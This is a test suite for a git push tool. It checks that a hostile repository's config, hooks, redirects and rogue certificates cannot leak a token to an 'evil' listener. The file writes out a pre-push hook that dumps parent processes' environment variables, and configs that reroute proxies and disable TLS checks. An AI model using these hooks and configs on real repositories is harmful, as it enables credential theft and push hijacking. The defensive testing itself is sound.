import assert from 'node:assert/strict';
import { appendFile, mkdir, readdir, readFile, rename, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { runInRepository } from '../../src/node/git/gitContext.ts';
import { preparePush, pushBranch } from '../../src/push/pushBranch.ts';
import { Failure } from '../../src/shared/failure.ts';
import { parseHost } from '../../src/tokens/host.ts';
import { makeCertificates } from '../sandbox/certificates.ts';
import { runGit, tokenHeader, type WorkTree } from '../sandbox/workTree.ts';
import { canaryFor } from './canary.ts';
import { type EvilListener, holdsToken, startEvilListener } from './evilListener.ts';
import { attacks } from './hostileAttacks.ts';
import { type PushStage, startPushStage } from './pushStage.ts';

const url = 'https://github.com/acme/app.git';

describe('a hostile repository', function () {
  this.timeout(60_000);
  let stage: PushStage;
  let evil: EvilListener;
  before(async () => {
    stage = await startPushStage({ pushTimeoutMs: 5_000 });
    const { untrusted } = await makeCertificates(['github.com']);
    evil = await startEvilListener({ certificate: untrusted });
  });
  after(async () => {
    await evil.close();
    await stage.close();
  });
  afterEach(() => {
    stage.sandbox.faults.clear();
    assert.equal(holdsToken(evil.heard(), stage.token.value), false, 'the listener heard the token');
  });

  const canaryIn = (tree: WorkTree) => canaryFor(stage.sandbox.folder, tree);

  for (const [index, [title, arrange, expected]] of attacks.entries()) {
    it(`${title}: ${expected === 'pushed' ? 'has no say, the push goes to its own place' : 'is refused before git starts'}`, async () => {
      const tree = await stage.tree(`attack-${index}`);
      const canary = await canaryIn(tree);
      await arrange({ tree, evil, canary: canary.program });
      const heard = evil.connections();
      const requests = stage.sandbox.log.length;
      const plan = await stage.plan(tree);
      const outcome =
        plan.kind === 'push'
          ? (await stage.push(tree)).kind
          : plan.kind === 'refused'
            ? plan.problem.kind
            : plan.kind;
      assert.deepEqual(
        {
          outcome,
          connections: evil.connections() - heard,
          ran: await canary.marks(),
          requests: stage.sandbox.log.length - requests,
        },
        { outcome: expected, connections: 0, ran: '', requests: expected === 'pushed' ? 2 : 0 },
      );
    });
  }

  it('A04 cannot loosen TLS: sslVerify and a certificate of its own change nothing', async () => {
    const tree = await stage.tree('loose');
    const { authority } = await makeCertificates(['github.com']);
    await writeFile(join(tree.folder, 'evil-ca.pem'), authority);
    for (const prefix of ['http', `http.${url}`]) {
      await tree.git('config', `${prefix}.sslVerify`, 'false');
      await tree.git('config', `${prefix}.sslCAInfo`, join(tree.folder, 'evil-ca.pem'));
    }
    stage.sandbox.faults.add({ fault: { kind: 'untrusted-certificate' } });
    const before = stage.sandbox.log.length;
    const env = { ...stage.env, GIT_SSL_NO_VERIFY: '1' };
    await tree.git('config', '--global', 'http.sslVerify', 'false');
    const refused = await stage.refusal(tree, { env });
    await tree.git('config', '--global', '--unset', 'http.sslVerify');
    assert.deepEqual([refused.problem, stage.sandbox.log.length - before], [{ kind: 'tlsUntrusted' }, 0]);
  });

  /** GHES on the listener's port, which the person's proxy does not serve: only the file's own resolution reaches it. */
  async function resolvedToEvil(branch: string, port: number): Promise<WorkTree> {
    const tree = await stage.tree(branch);
    await tree.git('remote', 'set-url', 'origin', `https://github.corp.example:${port}/acme/app.git`);
    await tree.git('config', 'http.proxy', '');
    await tree.git('config', 'http.curloptResolve', `github.corp.example:${port}:127.0.0.1`);
    await tree.git('config', 'http.sslVerify', 'false');
    return tree;
  }

  it('A05 cannot say where a host is: http.curloptResolve changes nothing', async () => {
    const tree = await resolvedToEvil('resolved', evil.port);
    const parsed = parseHost(`github.corp.example:${evil.port}`);
    const hosts = parsed.kind === 'host' ? [parsed.host] : [];
    const plan = await preparePush(tree.folder, { known: { hosts, aliases: {} } }, stage.pusher());
    const outcome = plan.kind === 'push' ? pushBranch(plan, stage.secret, stage.pusher()) : plan;
    const heard = evil.connections();
    await assert.rejects(Promise.resolve(outcome), (error: Failure) => error.problem.kind === 'proxyRefused');
    assert.equal(evil.connections(), heard);
  });

  for (const status of [301, 302, 303, 307, 308] as const) {
    for (const method of ['GET', 'POST']) {
      it(`A06 a ${status} on ${method} is refused and its target hears nothing`, async () => {
        const tree = await stage.tree(`redirect-${status}-${method}`);
        await tree.git('config', 'http.followRedirects', 'true');
        await tree.git('config', '--global', 'http.followRedirects', 'true');
        stage.sandbox.faults.add({ method, fault: { kind: 'redirect', status, to: `${evil.url}{path}` } });
        const heard = evil.connections();
        const refused = await stage.refusal(tree);
        await tree.git('config', '--global', '--unset', 'http.followRedirects');
        assert.deepEqual([refused.problem, evil.connections() - heard], [{ kind: 'redirectRefused' }, 0]);
      });
    }
  }

  it("A08 the person's own store never hears of it", async () => {
    const tree = await stage.tree('stored');
    const file = join(stage.env.HOME ?? '', '.git-credentials');
    await writeFile(file, 'https://someone@example.com\n');
    await tree.git('config', '--global', 'credential.helper', 'store');
    await stage.push(tree);
    await tree.git('config', '--global', '--unset', 'credential.helper');
    assert.equal(await readFile(file, 'utf8'), 'https://someone@example.com\n');
  });

  it('A08 a .netrc of the person is not sent either, also after a 401', async () => {
    const tree = await stage.tree('netrc');
    await writeFile(join(stage.env.HOME ?? '', '.netrc'), 'machine github.com login mona password other\n', {
      mode: 0o600,
    });
    stage.sandbox.faults.add({
      times: 1,
      fault: { kind: 'status', status: 401, headers: { 'www-authenticate': 'Basic realm="GitHub"' } },
    });
    const before = stage.sandbox.log.length;
    const refused = await stage.refusal(tree);
    assert.deepEqual([refused.problem, stage.sandbox.log.length - before], [{ kind: 'badCredentials' }, 1]);
  });

  it("A09 its hooks run once, as the person's own, with no secret in reach; the others never", async function () {
    if (process.platform === 'win32') this.skip();
    const tree = await stage.tree('hooks');
    const canary = await canaryIn(tree);
    const folder = join(tree.folder, '.evil');
    await mkdir(folder);
    const hooks = [
      'reference-transaction',
      'post-index-change',
      'pre-auto-gc',
      'post-update',
      'pre-receive',
      'update',
    ];
    for (const name of hooks) {
      await writeFile(join(folder, name), `#!/bin/sh\nexec "${canary.program}" ${name}\n`, { mode: 0o755 });
    }
    const seen = join(stage.sandbox.folder, 'evil-pre-push');
    const dump = `#!/bin/sh\nid=$$\nwhile [ "$id" -gt 1 ]; do tr '\\0' '\\n' < /proc/$id/environ; tr '\\0' '\\n' < /proc/$id/cmdline; id=$(awk '/^PPid:/ {print $2}' /proc/$id/status); done > "${seen}" 2>&1\nexit 0\n`;
    await writeFile(join(folder, 'pre-push'), dump, { mode: 0o755 });
    await tree.git('config', 'core.hooksPath', folder);
    const result = await stage.push(tree);
    assert.deepEqual([result.kind, await canary.marks()], ['pushed', '']);
    assert.equal(holdsToken(await readFile(seen, 'utf8').catch(() => ''), stage.token.value), false);
  });

  it('A10 whatever we read with, no program of the file is run, and no bare repository is entered', async () => {
    const tree = await stage.tree('read');
    const canary = await canaryIn(tree);
    await tree.git('config', 'core.fsmonitor', canary.program);
    await runGit(tree.folder, ['init', '--quiet', '--bare', 'embedded'], stage.env);
    const context = { git: stage.git, env: stage.env, workspaceFolders: [] };
    const status = await runInRepository(context, tree.folder, ['status', '--porcelain']);
    assert.deepEqual([status.exitCode, await canary.marks()], [0, '']);
    const [, minor = 0] = stage.git.version.split('.').map(Number);
    if (minor < 38) return; // Older git knows no safe.bareRepository; there the answer is refused later.
    const bare = await runInRepository(context, join(tree.folder, 'embedded'), ['rev-parse', '--git-dir']);
    assert.match(bare.stderr, /cannot use bare repository/);
  });

  it('A14 a .git file that points elsewhere, and a bare repository in the tree, are not used', async () => {
    const tree = await stage.tree('pointed');
    const other = await stage.tree('other');
    await rename(join(tree.folder, '.git'), join(tree.folder, 'was.git'));
    await writeFile(join(tree.folder, '.git'), `gitdir: ${join(other.folder, '.git')}\n`);
    await other.git('config', 'core.worktree', other.folder);
    const embedded = join(other.folder, 'embedded');
    await runGit(other.folder, ['init', '--quiet', '--bare', embedded], stage.env);
    const said = async (folder: string) =>
      stage.plan({ folder }).then(
        (plan) => plan.kind,
        (error: unknown) => (Failure.is(error) ? error.problem.kind : error),
      );
    assert.deepEqual([await said(tree.folder), await said(embedded)], ['notARepository', 'bareRepository']);
    await mkdir(join(other.folder, 'below'));
    assert.equal(await said(join(other.folder, 'below')), 'notARepository');
  });

  it('all at once: eleven settings, one push, two requests, silence', async () => {
    const tree = await stage.tree('everything');
    const canary = await canaryIn(tree);
    const { port } = evil;
    await appendFile(
      join(tree.folder, '.git', 'config'),
      `[url "${evil.url}/"]\n\tinsteadOf = https://github.com/\n[http]\n\tproxy = ${evil.url}\n\tsslVerify = false\n\tcurloptResolve = github.com:443:127.0.0.1\n\tfollowRedirects = true\n\tcookieFile = /dev/null\n\textraHeader = X-Evil: 1\n[http "${url}"]\n\tproxy = ${evil.url}\n\tsslVerify = false\n[credential]\n\thelper = !${canary.program}\n[core]\n\tfsmonitor = ${canary.program}\n\taskPass = ${canary.program}\n\tsshCommand = ${canary.program}\n[remote "origin"]\n\tproxy = http://127.0.0.1:${port}\n\treceivepack = ${canary.program}\n[push]\n\trecurseSubmodules = on-demand\n\tgpgSign = if-asked\n\tpushOption = evil\n[protocol "ext"]\n\tallow = always\n`,
    );
    const heard = evil.connections();
    const before = stage.sandbox.log.length;
    await stage.push(tree);
    assert.deepEqual(
      {
        requests: stage.sandbox.log.length - before,
        connections: evil.connections() - heard,
        ran: await canary.marks(),
      },
      { requests: 2, connections: 0, ran: '' },
    );
    assert.deepEqual(await readdir(stage.tempFolder), []);
  });

  /** The proof that the stage is armed: the way others do it is heard at once. */
  describe('and a push that trusts it', () => {
    async function isHeard(arrange: (evil: EvilListener) => Promise<WorkTree>): Promise<boolean> {
      const { untrusted } = await makeCertificates(['github.com']);
      const other = await startEvilListener({ certificate: untrusted });
      const tree = await arrange(other);
      const header = { ...tokenHeader(url, stage.token.value), GIT_CONFIG_KEY_0: 'http.extraHeader' };
      await runGit(tree.folder, ['push', '--quiet', 'origin', 'HEAD'], { ...stage.env, ...header });
      await other.close();
      return holdsToken(other.heard(), stage.token.value);
    }

    it('is heard where http.curloptResolve leads', async () => {
      const heard = await isHeard((other) => resolvedToEvil('naive-resolved', other.port));
      assert.equal(heard, true);
    });

    it('is robbed by a hook of the repository', async function () {
      if (process.platform === 'win32') this.skip();
      const tree = await stage.tree('naive-hook');
      const canary = await canaryIn(tree);
      const hook = join(tree.folder, '.git', 'hooks', 'pre-push');
      await writeFile(hook, `#!/bin/sh\nexec "${canary.program}"\n`, { mode: 0o755 });
      await isHeard(async () => tree);
      assert.equal(holdsToken(await canary.marks(), stage.token.value), true);
    });

    for (const [index, [title, arrange, , naively]] of attacks.entries()) {
      it(`${title}: ${naively === 'harmless' ? 'does it no harm' : `it is ${naively}`}`, async () => {
        const tree = await stage.tree(`naive-${index}`);
        const canary = await canaryIn(tree);
        const heard = await isHeard(async (other) => {
          await arrange({ tree, evil: other, canary: canary.program });
          return tree;
        });
        const marks = await canary.marks();
        const robbed = holdsToken(marks, stage.token.value) ? 'robbed by a program' : 'harmless';
        assert.equal(heard ? 'heard' : robbed, naively);
      });
    }
  });
});
